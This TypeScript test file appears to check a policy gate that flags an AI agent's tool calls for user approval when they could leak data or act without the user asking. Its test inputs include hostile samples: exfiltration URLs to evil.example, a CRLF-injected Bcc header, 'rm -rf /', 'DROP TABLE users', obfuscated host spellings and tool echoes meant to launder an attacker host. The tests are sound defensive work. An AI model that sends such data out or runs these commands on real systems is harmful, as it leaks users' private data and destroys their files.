/** @requirement policy/labels-decide */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Heard, JsonObject, Label } from '@oxydra/types';
import { Fault, SYSTEM_LABEL, USER_LABEL } from '@oxydra/types';
import { effectOf, inferFacts } from './infer-facts.ts';
import { judgeFlow } from './judge-flow.ts';
import { reachableIn, TOO_MANY } from './reachable.ts';

const UNTRUSTED: Label = { integrity: 'untrusted', confidentiality: 'user', sources: ['user', 'web:example.net'] };
const OWN: Label = { integrity: 'tool', confidentiality: 'user', sources: ['tool:own'] };
const PUBLIC: Label = { integrity: 'untrusted', confidentiality: 'public', sources: ['web:engine'] };

const WORDS = 'Summarise readme.md of 10 May for me, tell Bob about the general report, and list the invoices!';
const sceneOf = (words: string, heard: readonly Heard[]) => ({
  label: UNTRUSTED,
  heard: [{ text: words, label: USER_LABEL }, ...heard],
  trusted: [],
});
const judge = (tool: string, args: JsonObject, words = WORDS) =>
  judgeFlow(tool, inferFacts(tool, args), sceneOf(words, [])).flow;
const fetched = (url: string, heard: readonly Heard[] = [], words = WORDS) =>
  judgeFlow(
    'web_fetch',
    { effect: 'reads', parts: [{ argument: 'url', role: 'destination', values: [url], seen: true }] },
    sceneOf(words, heard),
  ).flow;

const allAsk = (calls: readonly (readonly [string, JsonObject])[]): void => {
  for (const [tool, args] of calls) assert.equal(judge(tool, args), 'ask', `${tool} ${JSON.stringify(args)}`);
};

describe('a name with two verbs', () => {
  test('says that the tool does both', () => {
    assert.deepEqual(effectOf('get_or_create_user'), { effect: 'reads', verb: 'get', also: ['creates'] });
    assert.deepEqual(effectOf('create_message').also, ['sends']);
    for (const name of ['get_order', 'search_emails', 'read_message', 'get_sent_emails', 'list_notes'])
      assert.deepEqual([effectOf(name).effect, effectOf(name).also], ['reads', []], name);
    allAsk([
      ['get_or_create_user', { name: 'mallory' }],
      ['list_and_delete', { folder: 'invoices' }],
      ['search_replace', { find: 'a bc', replace: 'owned' }],
      ['read_receipt_send', { to: 'mallory' }],
      ['status_update', { text: 'private words' }],
    ]);
  });
});

describe('a receiver', () => {
  test('is one under whatever name, in whatever shape it is given', () => {
    allAsk([
      ['send_message', { chat_id: 'mallory', text: 'private' }],
      ['send_message', { chat_id: 123_456_789, text: 'private' }],
      ['send_direct_message', { user_id: 'U0EVIL', body: 'private' }],
      ['send_sms', { phone_number: '5551234567', text: 'private' }],
      ['send_money', { account_number: '12345678', amount: 100 }],
      ['add_member', { user_id: 'U0EVIL' }],
      ['send_email', { message: { to: 'mallory', body: 'x' } }],
      ['send_email', { payload: '{"to":"mallory","body":"x"}' }],
      ['send_email', { to: 'bob', body: 'write to "eve x"@evil.example' }],
      ['send_email', { to: 'bob', subject: 'hi\r\nBcc: mallory', body: 'x' }],
      ['send_email', { to: 'bob', body: 'see evil.shop/x or 192.0.2.1/x' }],
    ]);
    assert.equal(judge('send_message', { chat_id: 'Bob', text: 'private' }), 'pass');
  });

  test('is not named by most of its words', () => {
    allAsk([
      ['send_channel_message', { channel: 'general-report-bob-mallory', body: 'private' }],
      ['send_channel_message', { channel: 'general-xx', body: 'private' }],
      ['send_channel_message', { channel: 'the', body: 'private' }],
    ]);
    assert.equal(judge('send_channel_message', { channel: 'general-report', body: 'private' }), 'pass');
  });

  test('that nobody can see makes the giving itself the question', () => {
    allAsk([
      ['tweet', { text: 'private words of the file' }],
      ['post_status', { status: 'private words of the file' }],
      ['forward_all', { folder: 'inbox' }],
      ['grant_access', { role: 'admin', object_id: 'x1' }],
    ]);
    assert.equal(judge('tweet', { text: 'private words' }, 'Tweet a summary of the page.'), 'pass');
    assert.equal(judge('post_status', { status: 'general report' }), 'pass', "the user's own words");
  });

  test('cannot hide beneath what is looked through', () => {
    const deep = JSON.parse(`${'['.repeat(20)}"eve@evil.example"${']'.repeat(20)}`) as JsonObject['x'];
    const many = Array.from({ length: 10_001 }, (_, n) => `m${n}`);
    for (const to of [deep ?? null, many])
      assert.throws(
        () => inferFacts('send_email', { to }),
        (error) => Fault.is(error) && error.code === 'gate/bad-arguments',
      );
    const hosts = Array.from({ length: 300 }, (_, n) => `e${n}.example.com`).join(' ');
    assert.ok(reachableIn(hosts).includes(TOO_MANY));
  });
});

describe('a place that is only looked at', () => {
  test('is one in every spelling that programs take', () => {
    const urls = ['evil.example/X', '//evil.example/X', 'https://evil.example/X Y', 'https:/evil.example/X'];
    const odd = [
      'https:\\\\evil.example/X',
      '192.0.2.1/X',
      'http:///evil.example/X',
      'ok\nhttps://evil.example/X',
      'summarise',
    ];
    allAsk([...urls, ...odd].map((url) => ['fetch', { url }]));
    allAsk([
      ['fetch', { host: 'evil.example', path: '/X' }],
      ['fetch', { request: { host: 'readme.md', path: '/X' } }],
      ['resolve', { hostname: 'x.evil.example' }],
      ['browse', { query: 'open https://evil.example/?d=X' }],
      ['lookup', { topic: 'evil.example/X' }],
    ]);
    assert.equal(judge('search_files', { filename: 'team-plan.docx', sender: 'eve@example.net' }), 'pass');
    assert.equal(judge('fetch', { url: 'docs.example/a?b' }, 'Read docs.example.'), 'pass');
  });
});

describe('what a tool does', () => {
  test('is also what its arguments order, whatever it is called', () => {
    allAsk([
      ['query', { sql: 'DROP TABLE users' }],
      ['compute', { code: 'rm -rf /' }],
      ['browse', { action: 'click', selector: '#pay' }],
      ['get_account', { options: { action: 'delete' } }],
      ['check_out_cart', { cart_id: '7' }],
      ['resolve_ticket', { id: 7 }],
    ]);
    assert.equal(judge('fetch', { url: 'docs.example', method: 'GET' }, 'Read docs.example.'), 'pass');
    assert.equal(judge('query', { sql: 'select 1' }, 'Run `select 1` now.'), 'pass');
  });

  test('must have been spoken of where it names nothing', () => {
    allAsk([
      ['open_garage', {}],
      ['create_api_key', {}],
      ['book_flight', { flight_id: 77, seats: 10 }],
      ['save_public_gist', { content: 'private' }],
    ]);
    assert.equal(judge('unlock_door', { id: 7 }, 'Is the door open?'), 'ask');
    assert.equal(judge('unlock_door', { id: 7 }, 'Unlock the door.'), 'pass');
    assert.equal(judge('save_note', { text: 'x y z' }, 'Save what it says.'), 'pass');
  });
});

describe('a change', () => {
  test('of numbers and switches alone must have been spoken of', () => {
    allAsk([
      ['update_order', { id: 7, amount: 9999 }],
      ['set_lock', { enabled: false }],
    ]);
    assert.equal(judge('set_lock', { enabled: false }, 'Disable the lock.'), 'pass');
  });
});

describe('a link', () => {
  test('is not vouched for by a file, a word or a number that the user spoke of', () => {
    for (const url of ['http://readme.md/?d=X', 'http://summarise/?d=X', 'http://10/?d=X', 'http:///evil.example/?d=X'])
      assert.equal(fetched(url), 'ask', url);
    assert.equal(fetched('http://readme.md/a', [], 'Read http://readme.md please.'), 'pass');
    assert.equal(fetched('http://2852039166/?d=X', [], 'My order is 2852039166.'), 'ask');
  });

  test('is not vouched for by an answer that repeats what it was asked', () => {
    const answer = (text: string, label: Label, asked: JsonObject): Heard => ({
      text,
      label,
      asked: JSON.stringify(asked),
    });
    const url = 'http://evil.example/collect?d=X';
    const echoes = [
      answer('No tool fits "zzz evil.example".', OWN, { query: 'zzz evil.example' }),
      answer('Created /shared/ /evil.example (5 bytes).', OWN, { path: '/shared/ /evil.example', content: 'x' }),
      answer('Created /shared/ /evil.example/a.', OWN, { path: '/shared/ /./evil.example/./a', content: 'x' }),
      answer('nothing for “evil.example/collect?d=X”', PUBLIC, { query: 'evil.example/collect?d=X' }),
      answer('nothing for “evil.example/collect?d=X”', PUBLIC, { query: 'evil.\u200bexample/coll\nect?d=X' }),
      answer('There is no tool named evil.example.', SYSTEM_LABEL, {}),
      answer('yes, evil.example', USER_LABEL, { question: 'Go on?', choices: ['yes, evil.example', 'no'] }),
    ];
    for (const each of echoes) assert.equal(fetched(url, [each]), 'ask', each.text);
    const found = answer('1. Birds\n   http://evil.example/collect?d=X', PUBLIC, { query: 'birds' });
    assert.equal(fetched(url, [found]), 'pass');
  });
});

describe('a decision about the worst of arguments', () => {
  test('takes time that grows with their length alone', () => {
    const letters = 256 * 1024;
    const fill = (text: string): string => text.repeat(Math.ceil(letters / text.length)).slice(0, letters);
    const worst = ['a', 'a.', 'a@', 'ab://', 'www.', 'AA11 ', '+1 ', '1 ', 'a-a.', 'http://a.example/x '].map(fill);
    worst.push(Array.from({ length: 12_000 }, (_, n) => `u${n}@e${n}.com`).join(' '));
    const begun = performance.now();
    for (const text of worst) judge('send_mail', { to: text, body: text, other: [text] });
    // Quadratic work of any one of them took seconds to minutes.
    assert.ok(performance.now() - begun < 5_000);
  });
});
